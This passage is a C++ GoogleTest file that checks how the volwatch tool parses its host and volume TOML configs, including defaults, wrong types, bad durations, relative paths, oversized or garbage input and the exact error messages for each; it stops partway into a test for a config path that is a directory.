// Host config and volume config: values, defaults, every class of bad config
// (each with its own message naming file, line and key), the trust split
// between the trusted host config and the untrusted volume config, the config
// digest and argv expansion.
#include <gtest/gtest.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <filesystem>
#include <fstream>
#include <initializer_list>
#include <map>
#include <optional>
#include <sched.h>
#include <csignal>
#include <string>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>

#include <fmt/format.h>

#include "test_support.hpp"
#include "volwatch/config.hpp"
#include "volwatch/safe_path.hpp"

using namespace volwatch;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

namespace {

void write_file(const fs::path& path, std::string_view text) {
    fs::create_directories(path.parent_path());
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out.write(text.data(), static_cast<std::streamsize>(text.size()));
    ASSERT_TRUE(out.good()) << path;
}

using volwatch::testing::ScopedEnv;

// Each test case gets its own temporary directory, removed afterwards.
class ConfigTest : public ::testing::Test {
protected:
    void SetUp() override {
        std::string pattern = (fs::temp_directory_path() / "volwatch-config-XXXXXX").string();
        ASSERT_NE(::mkdtemp(pattern.data()), nullptr) << std::strerror(errno);
        dir_ = fs::canonical(pattern);
    }
    void TearDown() override {
        set_resolver_for_testing(Resolver::automatic);
        std::error_code ec;
        fs::remove_all(dir_, ec);
    }
    const fs::path& dir() const { return dir_; }

    // A volume root beneath the temporary directory and an O_PATH fd on it.
    fs::path make_volume(std::string_view config) {
        fs::path root = dir_ / "vol";
        fs::create_directories(root);
        if (!config.empty()) write_file(root / volume_config_relpath, config);
        return root;
    }
    UniqueFd open_root(const fs::path& root) const {
        return UniqueFd(::open(root.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC));
    }

private:
    fs::path dir_;
};

// The host config volume configs are checked against in most tests.
HostConfig trusted_host() {
    HostConfig host;
    host.source = "/etc/volwatch/volwatch.toml";
    host.rebuilders.emplace("initramfs", Rebuilder{"initramfs", {"update-initramfs", "-u", "-b", "{root}/boot"}, 10min});
    host.rebuilders.emplace("ldconfig", Rebuilder{"ldconfig", {"ldconfig", "-r", "{root}"}, 10min});
    return host;
}

template <class T>
::testing::AssertionResult fails_with(const Result<T>& result, ExitCode code, const std::string& message) {
    if (result.ok()) return ::testing::AssertionFailure() << "succeeded, expected: " << message;
    if (result.problem().code != code)
        return ::testing::AssertionFailure() << "exit code " << to_int(result.problem().code) << ", expected "
                                             << to_int(code) << " (" << result.problem().message << ")";
    if (result.problem().message != message)
        return ::testing::AssertionFailure() << "message\n  \"" << result.problem().message << "\"\nexpected\n  \""
                                             << message << "\"";
    return ::testing::AssertionSuccess();
}

template <class T>
::testing::AssertionResult fails_containing(const Result<T>& result, ExitCode code,
                                            std::initializer_list<std::string_view> fragments) {
    if (result.ok()) return ::testing::AssertionFailure() << "succeeded, expected a failure";
    if (result.problem().code != code)
        return ::testing::AssertionFailure() << "exit code " << to_int(result.problem().code) << ", expected "
                                             << to_int(code) << " (" << result.problem().message << ")";
    for (std::string_view fragment : fragments)
        if (result.problem().message.find(fragment) == std::string::npos)
            return ::testing::AssertionFailure() << "message \"" << result.problem().message << "\" lacks \""
                                                 << fragment << "\"";
    return ::testing::AssertionSuccess();
}

Result<HostConfig> parse_host(std::string_view text) { return parse_host_config(text, "host.toml"); }
Result<VolumeConfig> parse_volume(std::string_view text) {
    return parse_volume_config(text, "vol.toml", trusted_host());
}

constexpr const char* full_host_config = R"(# every key
lock_dir      = "/run/vw"
settle        = "300ms"
settle_max    = "2m"
watch_backend = "inotify"
startup_delay = "1h"
max_failures  = 7
max_attempts  = 30
discover      = false
volumes       = ["/srv/images/rootfs", "/srv/images/other/"]
hold_unmount  = false
defer_while   = ["/var/lib/dpkg/lock-frontend", "/var/lib/pacman/db.lck"]

[rebuilders]
initramfs = { argv = ["update-initramfs", "-u", "-b", "{root}/boot"], timeout = "15m" }
ldconfig  = { argv = ["ldconfig", "-r", "{root}"] }

[[helpers]]
volume  = "/"
targets = ["/boot/efi", "/boot/efi2"]

[[helpers]]
volume  = "UUID=1234-ABCD"
targets = ["/boot/efi3"]
)";

constexpr const char* valid_volume_config = R"(version = 1

[[cache]]
name    = "initramfs"
sources = ["usr/lib/modules", "etc/initramfs-tools"]
product = "boot/initrd.img"
depth   = "deep"
rebuild = "initramfs"

[[cache]]
name    = "ld.so.cache"
sources = ["usr/lib", "etc/ld.so.conf", "etc/ld.so.conf.d"]
product = "etc/ld.so.cache"
rebuild = "ldconfig"

[helpers]
files   = ["boot/vmlinuz", "boot/initrd.img", "boot/grub/grub.cfg"]
)";

// Runs `body` in a child process with a private mount namespace; returns
// its exit status (0 = success), or -1 if it could not run.
template <class Body>
int run_in_private_mount_namespace(Body body) {
    pid_t pid = ::fork();
    if (pid < 0) return -1;
    if (pid == 0) {
        if (::unshare(CLONE_NEWNS) != 0) ::_exit(100);
        if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) ::_exit(101);
        ::_exit(body());
    }
    int status = 0;
    if (::waitpid(pid, &status, 0) != pid) return -1;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

}  // namespace

// ---------------------------------------------------------------- host config

TEST_F(ConfigTest, HostDefaultsFromEmptyFile) {
    auto host = parse_host("");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->source, "host.toml");
    EXPECT_EQ(host->lock_dir, "/run/volwatch");
    EXPECT_EQ(host->settle, 5s);
    EXPECT_EQ(host->settle_max, 60s);
    EXPECT_EQ(host->watch_backend, WatchBackend::automatic);
    EXPECT_EQ(host->startup_delay, 300s);
    EXPECT_EQ(host->max_failures, 5);
    EXPECT_EQ(host->max_attempts, 25);
    EXPECT_TRUE(host->discover);
    EXPECT_TRUE(host->volumes.empty());
    EXPECT_TRUE(host->hold_unmount);
    EXPECT_TRUE(host->defer_while.empty());
    EXPECT_TRUE(host->rebuilders.empty());
    EXPECT_TRUE(host->helpers.empty());
}

TEST_F(ConfigTest, HostDefaultsMatchBuiltInStruct) {
    HostConfig built_in;
    EXPECT_EQ(built_in.lock_dir, "/run/volwatch");
    EXPECT_EQ(built_in.settle, 5s);
    EXPECT_EQ(built_in.settle_max, 60s);
    EXPECT_EQ(built_in.startup_delay, 300s);
    EXPECT_TRUE(built_in.source.empty());
    Rebuilder rebuilder;
    EXPECT_EQ(rebuilder.timeout, 10min);
}

TEST_F(ConfigTest, HostEveryKeyWithValidValues) {
    auto host = parse_host(full_host_config);
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->lock_dir, "/run/vw");
    EXPECT_EQ(host->settle, 300ms);
    EXPECT_EQ(host->settle_max, 2min);
    EXPECT_EQ(host->watch_backend, WatchBackend::inotify);
    EXPECT_EQ(host->startup_delay, 1h);
    EXPECT_EQ(host->max_failures, 7);
    EXPECT_EQ(host->max_attempts, 30);
    EXPECT_FALSE(host->discover);
    ASSERT_EQ(host->volumes.size(), 2u);
    EXPECT_EQ(host->volumes[0], "/srv/images/rootfs");
    EXPECT_EQ(host->volumes[1], fs::path("/srv/images/other/").lexically_normal());
    EXPECT_FALSE(host->hold_unmount);
    ASSERT_EQ(host->defer_while.size(), 2u);
    EXPECT_EQ(host->defer_while[0], "/var/lib/dpkg/lock-frontend");
    EXPECT_EQ(host->defer_while[1], "/var/lib/pacman/db.lck");

    ASSERT_EQ(host->rebuilders.size(), 2u);
    const Rebuilder& initramfs = host->rebuilders.at("initramfs");
    EXPECT_EQ(initramfs.name, "initramfs");
    EXPECT_EQ(initramfs.argv, (std::vector<std::string>{"update-initramfs", "-u", "-b", "{root}/boot"}));
    EXPECT_EQ(initramfs.timeout, 15min);
    const Rebuilder& ldconfig = host->rebuilders.at("ldconfig");
    EXPECT_EQ(ldconfig.argv, (std::vector<std::string>{"ldconfig", "-r", "{root}"}));
    EXPECT_EQ(ldconfig.timeout, 10min) << "default rebuilder timeout";

    ASSERT_EQ(host->helpers.size(), 2u);
    EXPECT_EQ(host->helpers[0].volume, "/");
    EXPECT_EQ(host->helpers[0].targets, (std::vector<fs::path>{"/boot/efi", "/boot/efi2"}));
    EXPECT_EQ(host->helpers[0].line, 18);
    EXPECT_EQ(host->helpers[1].volume, "UUID=1234-ABCD");
    EXPECT_EQ(host->helpers[1].targets, (std::vector<fs::path>{"/boot/efi3"}));
    EXPECT_EQ(host->helpers[1].line, 22);
}

TEST_F(ConfigTest, HostWatchBackendValues) {
    EXPECT_EQ(parse_host("watch_backend = \"auto\"")->watch_backend, WatchBackend::automatic);
    EXPECT_EQ(parse_host("watch_backend = \"fanotify\"")->watch_backend, WatchBackend::fanotify);
    EXPECT_EQ(parse_host("watch_backend = \"inotify\"")->watch_backend, WatchBackend::inotify);
    EXPECT_TRUE(fails_with(parse_host("\nwatch_backend = \"kqueue\""), ExitCode::bad_host_config,
                           "host.toml:2: watch_backend: \"kqueue\" is not one of auto, fanotify, inotify"));
    EXPECT_TRUE(fails_with(parse_host("watch_backend = \"\""), ExitCode::bad_host_config,
                           "host.toml:1: watch_backend: \"\" is not one of auto, fanotify, inotify"));
}

TEST_F(ConfigTest, HostBooleansBothWays) {
    auto on = parse_host("discover = true\nhold_unmount = true");
    ASSERT_TRUE(on.ok());
    EXPECT_TRUE(on->discover);
    EXPECT_TRUE(on->hold_unmount);
    auto off = parse_host("discover = false\nhold_unmount = false");
    ASSERT_TRUE(off.ok());
    EXPECT_FALSE(off->discover);
    EXPECT_FALSE(off->hold_unmount);
}

TEST_F(ConfigTest, HostIntegerBounds) {
    EXPECT_EQ(parse_host("max_failures = 1")->max_failures, 1);
    EXPECT_EQ(parse_host("max_attempts = 1000000")->max_attempts, 1000000);
    for (const char* value : {"0", "-1", "1000001", "9223372036854775807"}) {
        EXPECT_TRUE(fails_with(parse_host(fmt::format("max_failures = {}", value)), ExitCode::bad_host_config,
                               "host.toml:1: max_failures: must be between 1 and 1000000"))
            << value;
        EXPECT_TRUE(fails_with(parse_host(fmt::format("max_attempts = {}", value)), ExitCode::bad_host_config,
                               "host.toml:1: max_attempts: must be between 1 and 1000000"))
            << value;
    }
}

TEST_F(ConfigTest, HostEmptyListsAreAllowed) {
    auto host = parse_host("volumes = []\ndefer_while = []\n[rebuilders]\n");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_TRUE(host->volumes.empty());
    EXPECT_TRUE(host->defer_while.empty());
    EXPECT_TRUE(host->rebuilders.empty());
}

TEST_F(ConfigTest, HostRebuilderAsStandardTable) {
    auto host = parse_host("[rebuilders.depmod]\nargv = [\"depmod\", \"-b\", \"{root}\"]\ntimeout = \"90s\"\n");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->rebuilders.at("depmod").argv, (std::vector<std::string>{"depmod", "-b", "{root}"}));
    EXPECT_EQ(host->rebuilders.at("depmod").timeout, 90s);
}

TEST_F(ConfigTest, HostHelpersAsInlineArray) {
    auto host = parse_host("helpers = [{ volume = \"/\", targets = [\"/boot/efi\"] }]");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    ASSERT_EQ(host->helpers.size(), 1u);
    EXPECT_EQ(host->helpers[0].targets, (std::vector<fs::path>{"/boot/efi"}));
}

TEST_F(ConfigTest, HostUnknownKeyTopLevel) {
    EXPECT_TRUE(fails_with(parse_host("# comment\nlock_dirr = \"/run/x\""), ExitCode::bad_host_config,
                           "host.toml:2: lock_dirr: unknown key"));
    EXPECT_TRUE(fails_with(parse_host("settle = \"5s\"\n\n[watch]\nbackend = \"inotify\""), ExitCode::bad_host_config,
                           "host.toml:3: watch: unknown key"));
}

TEST_F(ConfigTest, HostRebuilderNamesFollowTheNameRule) {
    EXPECT_TRUE(parse_host("[rebuilders]\n\"g++\" = { argv = [\"true\"] }").ok());
    for (const char* name : {"\"-x\"", "\".x\"", "\"a b\""}) {
        EXPECT_TRUE(fails_containing(parse_host(fmt::format("[rebuilders]\n{} = {{ argv = [\"true\"] }}", name)),
                                     ExitCode::bad_host_config,
                                     {"host.toml:2: rebuilders.", "a rebuilder name must start with a letter or digit"}))
            << name;
    }
}

TEST_F(ConfigTest, HostRebuilderUnknownPlaceholder) {
    EXPECT_TRUE(fails_with(parse_host("[rebuilders]\nx = { argv = [\"mk\", \"-o\", \"{prodcut}\"] }"),
                           ExitCode::bad_host_config,
                           "host.toml:2: rebuilders.x.argv[2]: unknown placeholder {prodcut} in \"{prodcut}\"; the "
                           "placeholders are {root}, {volume}, {cache} and {product}"));
    EXPECT_TRUE(fails_containing(parse_host("[rebuilders.x]\nargv = [\n  \"mk\",\n  \"--root={root}/{bogus}\",\n]"),
                                 ExitCode::bad_host_config,
                                 {"host.toml:4: rebuilders.x.argv[1]: unknown placeholder {bogus}"}));
    EXPECT_TRUE(fails_containing(parse_host("[rebuilders]\nx = { argv = [\"{ROOT}\"] }"), ExitCode::bad_host_config,
                                 {"host.toml:2: rebuilders.x.argv[0]: unknown placeholder {ROOT}"}));
    // Not placeholders: shell ${VAR}, find's {}, braces around other text.
    auto host = parse_host("[rebuilders]\n"
                           "x = { argv = [\"sh\", \"-c\", 'echo ${HOME} {} {a b} {\"k\": 1}', \"{root}\", "
                           "\"{{product}}\", \"{cache}{volume}\"] }");
    EXPECT_TRUE(host.ok()) << host.problem().message;
}

// toml++ 3.3.0 reached __builtin_unreachable() on these (see config.cpp); the
// sanitizer build (scripts/test.sh --sanitize) catches a regression.
TEST_F(ConfigTest, NonAsciiWhereWhitespaceMayBeIsAnErrorNotUndefinedBehaviour) {
    EXPECT_TRUE(fails_containing(parse_volume("\xcf\x92"), ExitCode::bad_volume_config, {"vol.toml:1:1: invalid TOML: "}));
    EXPECT_TRUE(fails_containing(parse_volume("\xcc\xaa"), ExitCode::bad_volume_config, {"vol.toml:1:1: invalid TOML: "}));
    EXPECT_TRUE(fails_with(parse_volume("s = \"\"\"\\\n\xc2\xa7\"\"\"\n"), ExitCode::bad_volume_config,
                           "vol.toml:1: s: unknown key"));
}

TEST_F(ConfigTest, HostUnknownKeyInRebuilder) {
    EXPECT_TRUE(fails_with(parse_host("[rebuilders]\nx = { argv = [\"true\"], shell = true }"),
                           ExitCode::bad_host_config, "host.toml:2: rebuilders.x.shell: unknown key"));
    EXPECT_TRUE(fails_with(parse_host("[rebuilders.x]\nargv = [\"true\"]\n\nenv = [\"A=1\"]"),
                           ExitCode::bad_host_config, "host.toml:4: rebuilders.x.env: unknown key"));
}

TEST_F(ConfigTest, HostUnknownKeyInHelpers) {
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"/\"\ntargets = [\"/boot/efi\"]\nfiles = [\"x\"]"),
                           ExitCode::bad_host_config, "host.toml:4: helpers[0].files: unknown key"));
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"/\"\ntargets = [\"/a\"]\n[[helpers]]\nvolume = \"/\"\n"
                                      "target = [\"/b\"]"),
                           ExitCode::bad_host_config, "host.toml:6: helpers[1].target: unknown key"));
}

struct WrongType {
    const char* text;     // placed on line 2 of the file
    const char* message;  // after "host.toml:2: "
};

TEST_F(ConfigTest, HostWrongTypeForEveryKey) {
    const WrongType cases[] = {
        {"lock_dir = 5", "lock_dir: expected a string, found an integer"},
        {"lock_dir = [\"/run\"]", "lock_dir: expected a string, found an array"},
        {"settle = 5", "settle: expected a string, found an integer"},
        {"settle_max = true", "settle_max: expected a string, found a boolean"},
        {"watch_backend = 1", "watch_backend: expected a string, found an integer"},
        {"startup_delay = 1.5", "startup_delay: expected a string, found a number"},
        {"startup_delay = 1979-05-27", "startup_delay: expected a string, found a date or time"},
        {"max_failures = \"5\"", "max_failures: expected an integer, found a string"},
        {"max_attempts = 2.5", "max_attempts: expected an integer, found a number"},
        {"discover = \"yes\"", "discover: expected true or false, found a string"},
        {"hold_unmount = 1", "hold_unmount: expected true or false, found an integer"},
        {"volumes = \"/srv\"", "volumes: expected an array of strings, found a string"},
        {"volumes = [1]", "volumes[0]: expected a string, found an integer"},
        {"defer_while = { a = 1 }", "defer_while: expected an array of strings, found a table"},
        {"defer_while = [\"/x\", true]", "defer_while[1]: expected a string, found a boolean"},
        {"rebuilders = 5", "rebuilders: expected a table, found an integer"},
        {"rebuilders = { x = 5 }", "rebuilders.x: expected a table, found an integer"},
        {"rebuilders = { x = { argv = \"true\" } }", "rebuilders.x.argv: expected an array of strings, found a string"},
        {"rebuilders = { x = { argv = [\"a\", 1] } }", "rebuilders.x.argv[1]: expected a string, found an integer"},
        {"rebuilders = { x = { argv = [\"a\"], timeout = 10 } }", "rebuilders.x.timeout: expected a string, found an integer"},
        {"helpers = 5", "helpers: expected [[helpers]] tables"},
        {"helpers = [\"/\"]", "helpers: expected [[helpers]] tables"},
        {"helpers = [{ volume = 5, targets = [\"/a\"] }]", "helpers[0].volume: expected a string, found an integer"},
        {"helpers = [{ volume = \"/\", targets = \"/boot/efi\" }]",
         "helpers[0].targets: expected an array of strings, found a string"},
        {"helpers = [{ volume = \"/\", targets = [5] }]", "helpers[0].targets[0]: expected a string, found an integer"},
    };
    for (const auto& c : cases) {
        EXPECT_TRUE(fails_with(parse_host(fmt::format("# line 1\n{}\n", c.text)), ExitCode::bad_host_config,
                               fmt::format("host.toml:2: {}", c.message)))
            << c.text;
    }
}

TEST_F(ConfigTest, HostHelpersAsPlainTableIsRefused) {
    EXPECT_TRUE(fails_with(parse_host("\n[helpers]\nvolume = \"/\"\ntargets = [\"/a\"]"), ExitCode::bad_host_config,
                           "host.toml:2: helpers: expected [[helpers]] tables"));
}

TEST_F(ConfigTest, HostMissingRequiredKeys) {
    EXPECT_TRUE(fails_with(parse_host("[rebuilders]\nx = { timeout = \"1m\" }"), ExitCode::bad_host_config,
                           "host.toml:2: rebuilders.x.argv: missing required key"));
    EXPECT_TRUE(fails_with(parse_host("\n[rebuilders.x]\ntimeout = \"1m\""), ExitCode::bad_host_config,
                           "host.toml:2: rebuilders.x.argv: missing required key"));
    EXPECT_TRUE(fails_with(parse_host("\n\n[[helpers]]\ntargets = [\"/boot/efi\"]"), ExitCode::bad_host_config,
                           "host.toml:3: helpers[0].volume: missing required key"));
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"/\"\ntargets = [\"/a\"]\n\n[[helpers]]\nvolume = \"/\""),
                           ExitCode::bad_host_config, "host.toml:5: helpers[1].targets: missing required key"));
}

TEST_F(ConfigTest, HostEmptyArgv) {
    EXPECT_TRUE(fails_with(parse_host("[rebuilders]\nx = { argv = [] }"), ExitCode::bad_host_config,
                           "host.toml:2: rebuilders.x.argv: must not be empty"));
    EXPECT_TRUE(fails_with(parse_host("[rebuilders]\nx = { argv = [\"\", \"-u\"] }"), ExitCode::bad_host_config,
                           "host.toml:2: rebuilders.x.argv: the command (argv[0]) is empty"));
    // Later empty arguments are legitimate ("" is a valid argument).
    auto host = parse_host("[rebuilders]\nx = { argv = [\"cmd\", \"\"] }");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->rebuilders.at("x").argv.size(), 2u);
}

TEST_F(ConfigTest, HostEmptyTargets) {
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"/\"\ntargets = []"), ExitCode::bad_host_config,
                           "host.toml:3: helpers[0].targets: must not be empty"));
}

TEST_F(ConfigTest, HostBadRebuilderName) {
    EXPECT_TRUE(fails_containing(parse_host("[rebuilders]\n\"a b\" = { argv = [\"true\"] }"), ExitCode::bad_host_config,
                                 {"host.toml:2: rebuilders.a b: ", "only letters, digits"}));
    EXPECT_TRUE(fails_containing(parse_host("[rebuilders]\n\"../x\" = { argv = [\"true\"] }"), ExitCode::bad_host_config,
                                 {"host.toml:2: rebuilders.../x: "}));
}

TEST_F(ConfigTest, HostBadDurations) {
    const char* keys[] = {"settle", "settle_max", "startup_delay"};
    for (const char* key : keys) {
        EXPECT_TRUE(fails_with(parse_host(fmt::format("\n{} = \"5\"", key)), ExitCode::bad_host_config,
                               fmt::format("host.toml:2: {}: invalid duration \"5\": missing unit (use forms like "
                                           "300ms, 5s, 10m, 1h, 1m30s)",
                                           key)));
        EXPECT_TRUE(fails_containing(parse_host(fmt::format("{} = \"5x\"", key)), ExitCode::bad_host_config,
                                     {fmt::format("host.toml:1: {}: invalid duration \"5x\": unknown unit", key)}));
        EXPECT_TRUE(fails_containing(parse_host(fmt::format("{} = \"99999999999999999999h\"", key)),
                                     ExitCode::bad_host_config,
                                     {fmt::format("host.toml:1: {}: invalid duration", key), "too large"}));
        EXPECT_TRUE(fails_containing(parse_host(fmt::format("{} = \"9223372036854775807d\"", key)),
                                     ExitCode::bad_host_config, {fmt::format("host.toml:1: {}: ", key), "too large"}));
        EXPECT_TRUE(fails_containing(parse_host(fmt::format("{} = \"\"", key)), ExitCode::bad_host_config,
                                     {fmt::format("host.toml:1: {}: invalid duration \"\": empty", key)}));
        EXPECT_TRUE(fails_containing(parse_host(fmt::format("{} = \"-5s\"", key)), ExitCode::bad_host_config,
                                     {fmt::format("host.toml:1: {}: invalid duration \"-5s\"", key)}));
    }
    EXPECT_TRUE(fails_containing(parse_host("[rebuilders]\nx = { argv = [\"a\"], timeout = \"10\" }"),
                                 ExitCode::bad_host_config,
                                 {"host.toml:2: rebuilders.x.timeout: invalid duration \"10\": missing unit"}));
    EXPECT_TRUE(fails_containing(parse_host("[rebuilders]\nx = { argv = [\"a\"], timeout = \"10y\" }"),
                                 ExitCode::bad_host_config,
                                 {"host.toml:2: rebuilders.x.timeout: invalid duration \"10y\": unknown unit"}));
    EXPECT_TRUE(fails_with(parse_host("[rebuilders]\nx = { argv = [\"a\"], timeout = \"0\" }"), ExitCode::bad_host_config,
                           "host.toml:2: rebuilders.x.timeout: must be greater than zero"));
}

TEST_F(ConfigTest, HostCompoundAndZeroDurations) {
    auto host = parse_host("settle = \"0\"\nsettle_max = \"1m30s\"\nstartup_delay = \"0\"");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->settle, 0ms);
    EXPECT_EQ(host->settle_max, 90s);
    EXPECT_EQ(host->startup_delay, 0ms);
}

TEST_F(ConfigTest, HostSettleMaxShorterThanSettle) {
    EXPECT_TRUE(fails_with(parse_host("settle = \"10s\"\n\nsettle_max = \"5s\""), ExitCode::bad_host_config,
                           "host.toml:3: settle_max: must not be shorter than settle"));
    // Order in the file does not matter.
    EXPECT_TRUE(fails_with(parse_host("settle_max = \"5s\"\nsettle = \"10s\""), ExitCode::bad_host_config,
                           "host.toml:1: settle_max: must not be shorter than settle"));
    auto equal = parse_host("settle = \"10s\"\nsettle_max = \"10s\"");
    ASSERT_TRUE(equal.ok()) << equal.problem().message;
}

TEST_F(ConfigTest, HostSettleLongerThanDefaultSettleMaxNamesTheLineWritten) {
    // Only settle is written: the message must point at a line and a key the
    // file actually has, not at a settle_max nobody wrote.
    auto host = parse_host("# x\nsettle = \"2m\"");
    ASSERT_FALSE(host.ok());
    EXPECT_EQ(host.problem().code, ExitCode::bad_host_config);
    EXPECT_EQ(host.problem().message.rfind("host.toml:2: settle: ", 0), 0u) << host.problem().message;
    EXPECT_NE(host.problem().message.find("settle_max"), std::string::npos) << host.problem().message;
    EXPECT_NE(host.problem().message.find("1m"), std::string::npos) << host.problem().message;
}

TEST_F(ConfigTest, HostRelativePaths) {
    EXPECT_TRUE(fails_with(parse_host("lock_dir = \"run/volwatch\""), ExitCode::bad_host_config,
                           "host.toml:1: lock_dir: \"run/volwatch\" is not an absolute path"));
    EXPECT_TRUE(fails_with(parse_host("lock_dir = \"\""), ExitCode::bad_host_config,
                           "host.toml:1: lock_dir: \"\" is not an absolute path"));
    EXPECT_TRUE(fails_with(parse_host("volumes = [\"/srv\", \"srv/x\"]"), ExitCode::bad_host_config,
                           "host.toml:1: volumes[1]: \"srv/x\" is not an absolute path"));
    EXPECT_TRUE(fails_with(parse_host("defer_while = [\"var/lib/dpkg/lock\"]"), ExitCode::bad_host_config,
                           "host.toml:1: defer_while[0]: \"var/lib/dpkg/lock\" is not an absolute path"));
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"/\"\ntargets = [\"boot/efi\"]"), ExitCode::bad_host_config,
                           "host.toml:3: helpers[0].targets[0]: \"boot/efi\" is not an absolute path (a target is a directory, UUID=, PARTUUID=, LABEL= or a /dev/ path)"));
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"mnt\"\ntargets = [\"/boot/efi\"]"),
                           ExitCode::bad_host_config, "host.toml:2: helpers[0].volume: must be an absolute path or UUID=..."));
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"\"\ntargets = [\"/boot/efi\"]"),
                           ExitCode::bad_host_config, "host.toml:2: helpers[0].volume: must be an absolute path or UUID=..."));
}

TEST_F(ConfigTest, HostLockDirIsNormalised) {
    auto host = parse_host("lock_dir = \"/run/./volwatch//x/..\"");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->lock_dir, fs::path("/run/volwatch/"));
}

TEST_F(ConfigTest, HostNulInStringIsRefused) {
    EXPECT_TRUE(fails_with(parse_host("lock_dir = \"/run/\\u0000x\""), ExitCode::bad_host_config,
                           "host.toml:1: lock_dir: contains a NUL byte"));
}

TEST_F(ConfigTest, HostInvalidTomlGivesLineAndColumn) {
    auto host = parse_host("settle = \"5s\"\n\nsettle_max = = \"60s\"\n");
    ASSERT_FALSE(host.ok());
    EXPECT_EQ(host.problem().code, ExitCode::bad_host_config);
    EXPECT_EQ(host.problem().message.rfind("host.toml:3:14: invalid TOML: ", 0), 0u) << host.problem().message;

    auto unterminated = parse_host("# x\nlock_dir = \"/run");
    ASSERT_FALSE(unterminated.ok());
    EXPECT_EQ(unterminated.problem().message.rfind("host.toml:2:", 0), 0u) << unterminated.problem().message;
    EXPECT_NE(unterminated.problem().message.find(": invalid TOML: "), std::string::npos);
}

TEST_F(ConfigTest, HostDuplicateKeyIsInvalidToml) {
    EXPECT_TRUE(fails_containing(parse_host("settle = \"5s\"\nsettle = \"6s\""), ExitCode::bad_host_config,
                                 {"host.toml:2:", "invalid TOML"}));
}

TEST_F(ConfigTest, HostBinaryGarbage) {
    std::string garbage;
    for (int i = 0; i < 4096; ++i) garbage += static_cast<char>((i * 7919 + 13) % 256);
    auto host = parse_host(garbage);
    EXPECT_TRUE(fails_containing(host, ExitCode::bad_host_config, {"host.toml:", "invalid TOML"}));

    write_file(dir() / "garbage.toml", garbage);
    auto loaded = load_host_config(HostConfigLocation{dir() / "garbage.toml", true});
    EXPECT_TRUE(fails_containing(loaded, ExitCode::bad_host_config, {(dir() / "garbage.toml").string(), "invalid TOML"}));

    EXPECT_TRUE(fails_containing(parse_host(std::string("lock_dir = \"/run\"\0\x01\xff", 20)), ExitCode::bad_host_config,
                                 {"host.toml:1:", "invalid TOML"}));
}

TEST_F(ConfigTest, HostFileTooLarge) {
    std::string big = "# padding\n";
    while (big.size() <= max_config_bytes) big += "# " + std::string(78, 'x') + "\n";
    write_file(dir() / "big.toml", big);
    auto loaded = load_host_config(HostConfigLocation{dir() / "big.toml", true});
    EXPECT_TRUE(fails_with(loaded, ExitCode::bad_host_config,
                           fmt::format("{}: file too large ({} bytes; the limit is 1048576)",
                                       (dir() / "big.toml").string(), big.size())));
    EXPECT_TRUE(fails_containing(parse_host(big), ExitCode::bad_host_config, {"host.toml: file too large"}));

    std::string exactly(max_config_bytes, '\n');
    write_file(dir() / "limit.toml", exactly);
    auto at_limit = load_host_config(HostConfigLocation{dir() / "limit.toml", true});
    EXPECT_TRUE(at_limit.ok()) << at_limit.problem().message;
}

TEST_F(ConfigTest, HostLoadFromFile) {
    write_file(dir() / "volwatch.toml", full_host_config);
    auto host = load_host_config(HostConfigLocation{dir() / "volwatch.toml", true});
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->source, dir() / "volwatch.toml");
    EXPECT_EQ(host->lock_dir, "/run/vw");
}

TEST_F(ConfigTest, HostErrorsNameTheLoadedFile) {
    write_file(dir() / "volwatch.toml", "\nbogus = 1\n");
    auto host = load_host_config(HostConfigLocation{dir() / "volwatch.toml", true});
    EXPECT_TRUE(fails_with(host, ExitCode::bad_host_config, (dir() / "volwatch.toml").string() + ":2: bogus: unknown key"));
}

TEST_F(ConfigTest, HostMissingExplicitConfigIsAnError) {
    fs::path missing = dir() / "nope.toml";
    auto host = load_host_config(HostConfigLocation{missing, true});
    EXPECT_TRUE(fails_containing(host, ExitCode::bad_host_config, {missing.string(), "cannot open host config"}));
    EXPECT_EQ(to_int(host.problem().code), 78);

    // Through --config ...
    HostOverrides flag;
    flag.config = missing;
    EXPECT_TRUE(fails_containing(load_host_config(flag), ExitCode::bad_host_config, {missing.string()}));
    // ... and through $VOLWATCH_CONFIG.
    ScopedEnv env("VOLWATCH_CONFIG", missing.c_str());
    EXPECT_TRUE(fails_containing(load_host_config(HostOverrides{}), ExitCode::bad_host_config, {missing.string()}));
}

TEST_F(ConfigTest, HostMissingDefaultConfigYieldsDefaults) {
    auto host = load_host_config(HostConfigLocation{dir() / "nope.toml", false});
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_TRUE(host->source.empty());
    EXPECT_EQ(host->lock_dir, "/run/volwatch");
    EXPECT_EQ(host->settle, 5s);
}

TEST_F(ConfigTest, HostDefaultConfigThatExistsButIsBadIsStillAnError) {
    write_file(dir() / "volwatch.toml", "settle = 5");
    auto host = load_host_config(HostConfigLocation{dir() / "volwatch.toml", false});
    EXPECT_TRUE(fails_containing(host, ExitCode::bad_host_config, {":1: settle: expected a string"}));
}

TEST_F(ConfigTest, HostConfigThatIsADirectory) {
